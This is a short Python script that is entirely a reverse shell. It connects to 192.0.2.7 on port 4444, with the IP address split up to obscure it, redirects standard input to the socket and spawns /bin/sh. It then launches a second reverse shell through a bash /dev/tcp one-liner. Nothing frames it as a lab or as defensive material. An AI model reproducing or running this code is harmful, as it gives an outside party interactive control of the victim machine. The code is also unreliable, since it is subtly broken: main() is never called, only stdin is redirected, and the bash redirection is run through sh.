import os
import pty
import socket


def main():
    s = socket.socket()
    s.connect((".".join(["192", "0", "2", "7"]), 4444))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/sh")
    os.system("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")
